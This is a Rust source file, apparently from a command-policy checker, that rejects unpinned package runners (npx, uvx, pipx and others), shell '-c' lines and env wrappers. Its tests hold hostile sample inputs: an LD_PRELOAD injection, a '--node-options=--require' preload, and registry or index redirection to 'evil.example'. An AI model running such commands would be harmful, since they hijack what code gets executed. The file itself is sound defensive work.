//! Programs that fetch what they run: only in a version that somebody looked at. spec: T-90
//!
//! Nothing is asked of a registry here. What is judged is the command: whether it could run something else tomorrow.

use portcullis_base::printable;

/// What is wrong, and what to write instead.
pub(super) type Wrong = (String, String);

type Words = &'static [&'static str];

/// How a program names the package that it runs.
struct Runner {
    program: &'static str,
    /// Words that come before everything else, such as `tool run`.
    words: Words,
    /// Flags without a value.
    flags: Words,
    /// Flags whose value is a package; the first of these takes the place of the package to run.
    packages: Words,
    /// Flags with a value of another kind.
    others: Words,
    kind: Kind,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Npm,
    Python,
}

const NPM: &[&str] = &[
    "-y",
    "--yes",
    "-q",
    "--quiet",
    "--silent",
    "--offline",
    "--prefer-offline",
    "--ignore-scripts",
    "--no",
    "--no-install",
    "--bun",
    "--",
];
const PYTHON: &[&str] = &["-q", "--quiet", "--offline", "--isolated", "--no-config", "--no-build", "--"];

const RUNNERS: [Runner; 11] = [
    npm("npx", &[], &["-p", "--package"]),
    npm("bunx", &[], &["-p", "--package"]),
    npm("bun", &["x"], &["-p", "--package"]),
    npm("npm", &["exec"], &["--package"]),
    npm("npm", &["x"], &["--package"]),
    npm("pnpx", &[], &["--package"]),
    npm("pnpm", &["dlx"], &["--package"]),
    npm("yarn", &["dlx"], &["-p", "--package"]),
    python("uvx", &[], &["--from", "--with"], &["-p", "--python"]),
    python("uv", &["tool", "run"], &["--from", "--with"], &["-p", "--python"]),
    python("pipx", &["run"], &["--spec", "--with"], &["--python"]),
];

const fn npm(program: &'static str, words: Words, packages: Words) -> Runner {
    Runner { program, words, flags: NPM, packages, others: &[], kind: Kind::Npm }
}

const fn python(program: &'static str, words: Words, packages: Words, others: Words) -> Runner {
    Runner { program, words, flags: PYTHON, packages, others, kind: Kind::Python }
}

const SHELLS: [&str; 10] = ["sh", "ash", "bash", "csh", "dash", "fish", "ksh", "pwsh", "tcsh", "zsh"];

/// Whether a command runs the same today and tomorrow, and no shell.
pub(super) fn check(argv: &[String]) -> Result<(), Wrong> {
    let Some((program, arguments)) = argv.split_first() else { return Ok(()) };
    let program = program.rsplit('/').next().unwrap_or(program);
    // spec: T-88: "argv vectors only"
    if SHELLS.contains(&program) && takes_a_line(arguments) {
        return Err((
            format!("{program} -c runs a line of shell"),
            "name the program that it would start, and its arguments one by one".into(),
        ));
    }
    let words = |runner: &&Runner| {
        runner.program == program
            && arguments.len() >= runner.words.len()
            && runner.words.iter().zip(arguments).all(|(word, argument)| word == argument)
    };
    if program == "env" {
        return Err((
            "env hides which program is run, and with which variables".into(),
            "name the program itself, and what it needs under `env:`".into(),
        ));
    }
    match RUNNERS.iter().find(words) {
        Some(runner) => runner.check(&arguments[runner.words.len()..]),
        None => Ok(()),
    }
}

/// Whether a shell of these arguments runs one of them as a line, and not a file.
fn takes_a_line(arguments: &[String]) -> bool {
    let mut arguments = arguments.iter();
    while let Some(word) = arguments.next().filter(|word| word.starts_with(['-', '+'])) {
        if !word.starts_with("--") && word.contains('c') {
            return true;
        }
        if word.ends_with(['o', 'O']) || ["--rcfile", "--init-file"].contains(&word.as_str()) {
            arguments.next();
        }
    }
    false
}

impl Runner {
    fn check(&self, arguments: &[String]) -> Result<(), Wrong> {
        let mut arguments = arguments.iter();
        let mut named = false;
        while let Some(argument) = arguments.next() {
            let (flag, value) = match argument.split_once('=') {
                Some((flag, value)) if flag.starts_with('-') => (flag, Some(value)),
                _ => (argument.as_str(), None),
            };
            if !argument.starts_with('-') {
                // Behind a package that was named, this is what is run out of it.
                return if named { Ok(()) } else { self.pinned(argument) };
            }
            if self.flags.contains(&flag) && value.is_none() {
                continue;
            }
            let takes_one = self.packages.contains(&flag) || self.others.contains(&flag);
            let value = value
                .or_else(|| if takes_one { arguments.next().map(String::as_str) } else { None })
                .unwrap_or_default();
            if self.packages.contains(&flag) {
                self.pinned(value)?;
                named |= flag != "--with";
            } else if !takes_one {
                // spec: T-88
                return Err((
                    format!("\"{}\" is no flag that {} may have before the package", printable(flag, 60), self.program),
                    format!("known here: {}, {}", self.flags.join(", "), self.packages.join(", ")),
                ));
            }
        }
        if named { Ok(()) } else { Err((format!("{} is given no package to run", self.program), self.example("NAME"))) }
    }

    // spec: T-90: "exact version"
    fn pinned(&self, package: &str) -> Result<(), Wrong> {
        let (name, version) = self.split(package);
        let exact = match (self.kind, version) {
            _ if is_source(package) => is_commit(package),
            (Kind::Npm, Some(version)) => is_npm_version(version),
            (Kind::Python, Some(version)) => is_python_version(version),
            (_, None) => package.starts_with('/'),
        };
        if exact {
            return Ok(());
        }
        let what = match version {
            _ if is_source(package) => "names no commit, so it is whatever stands there at the time",
            None => "names no version, so it is whatever was published last",
            Some(_) => "names no exact version, so it is whatever was published last",
        };
        let help = if is_source(package) {
            "write the commit behind it, all 40 digits".into()
        } else {
            self.example(&printable(name, 100))
        };
        Err((format!("\"{}\" {what}", printable(package, 100)), help))
    }

    fn split<'p>(&self, package: &'p str) -> (&'p str, Option<&'p str>) {
        let at = |text: &'p str| {
            let (scope, rest) = text.split_at(usize::from(text.starts_with('@')));
            rest.split_once('@').map(|(name, version)| (&text[..scope.len() + name.len()], version))
        };
        let cut = match self.kind {
            Kind::Npm => at(package),
            Kind::Python => package.split_once("==").or_else(|| at(package)),
        };
        match cut {
            Some((name, version)) => (name, Some(version)),
            None => (package.split(['=', '<', '>', '~', '!', ' ']).next().unwrap_or(package), None),
        }
    }

    fn example(&self, name: &str) -> String {
        match self.kind {
            Kind::Npm => format!(
                "write \"{name}@1.2.3\" with the version that you looked at; `npm view {name} version` tells the last"
            ),
            Kind::Python => format!(
                "write \"{name}==1.2.3\" with the version that you looked at; `pip index versions {name}` tells which there are"
            ),
        }
    }
}

fn is_source(package: &str) -> bool {
    package.contains("://") || package.contains(':') || (package.contains('/') && !package.starts_with(['@', '/']))
}

fn is_commit(package: &str) -> bool {
    let commit = package.rsplit(['#', '@']).next().unwrap_or("");
    commit.len() == 40 && commit.bytes().all(|byte| byte.is_ascii_hexdigit())
}

/// `1.2.3`, or `1.2.3-beta.1`.
fn is_npm_version(version: &str) -> bool {
    let (numbers, more) = version.split_at(version.find(['-', '+']).unwrap_or(version.len()));
    let number = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    numbers.split('.').count() == 3
        && numbers.split('.').all(number)
        && more.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-+.".contains(&byte))
}

/// `1.2`, `1.2.3`, `1.2.3rc1`, `1!2.0.post1`.
fn is_python_version(version: &str) -> bool {
    version.starts_with(|c: char| c.is_ascii_digit())
        && version.bytes().all(|byte| byte.is_ascii_alphanumeric() || b".!+-_".contains(&byte))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judged(line: &str) -> Result<(), Wrong> {
        check(&line.split(' ').map(str::to_owned).collect::<Vec<_>>())
    }

    // spec: T-90
    #[test]
    fn only_what_is_the_same_tomorrow_is_run() {
        const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
        for good in [
            "npx -y @scope/server@1.2.3 /srv --flag",
            "npx -y server@1.2.3-beta.1",
            "npx --package=server@1.2.3 -y tool --any thing",
            "npm exec --package server@1.2.3 -- tool",
            "bunx server@1.2.3",
            "bun x server@1.2.3",
            "bun server.js",
            "pnpx server@1.2.3",
            "uvx server@1.2.3",
            "uvx --from server==1.2.3 server --latest",
            "uv tool run --python 3.12 server==1.2.3rc1",
            "pipx run --spec server==1.2 server",
            "/opt/node/bin/npx -y server@1.2.3",
            "node /srv/server.js",
            "python3 -c pass",
            "npm start",
        ] {
            judged(good).unwrap_or_else(|why| panic!("{good}: {why:?}"));
        }
        judged(&format!("npx -y github:owner/repo#{COMMIT}")).expect("a commit");
        judged(&format!("uvx --from git+https://example.com/a/b@{COMMIT} server")).expect("a commit");
        for bad in [
            "npx -y @scope/server",
            "npx server@latest",
            "npx server@^1.2.3",
            "npx server@1.2",
            "npx server@1.x",
            "npx server@>=1.0.0",
            "npx github:owner/repo",
            "npx owner/repo#main",
            "npx https://example.com/server.tgz",
            "npx server@npm:other@1.2.3",
            "npx -y --package server tool",
            "npx --package=server@1.2.3 --package=other tool",
            "npx",
            "bunx server",
            "bun x server",
            "pnpx server",
            "pnpm dlx server@next",
            "yarn dlx server",
            "uvx server",
            "uvx server@latest",
            "uvx --from server>=1.2 server",
            "uvx --with other server==1.2.3",
            "uvx --from server==1.* server",
            "uvx --from git+https://example.com/a/b@main server",
            "uv tool run server",
            "pipx run server",
            "./bin/npx server",
        ] {
            judged(bad).expect_err(bad);
        }
        let (what, help) = judged("npx -y @scope/server").expect_err("no version");
        assert_eq!(what, "\"@scope/server\" names no version, so it is whatever was published last");
        assert!(help.starts_with("write \"@scope/server@1.2.3\""), "{help}");
    }

    // spec: T-88
    #[test]
    fn neither_shells_nor_flags_that_run_something_else_get_in() {
        for bad in [
            "sh -c ls",
            "/bin/bash -ec ls",
            "ash -c ls",
            "bash -o pipefail -c ls",
            "bash +e --rcfile x -c ls",
            "env LD_PRELOAD=x node server.js",
            "/usr/bin/env npx server",
            "npx -c ls server@1.2.3",
            "npx --call=ls server@1.2.3",
            "npx --node-options=--require=/tmp/x server@1.2.3",
            "uvx --index-url https://evil.example server==1.2.3",
            "npx -y --registry=https://evil.example server@1.2.3",
        ] {
            judged(bad).expect_err(bad);
        }
        judged("sh /srv/start.sh -c").expect("a script");
        judged("bash -o pipefail /srv/start.sh").expect("a script");
    }
}
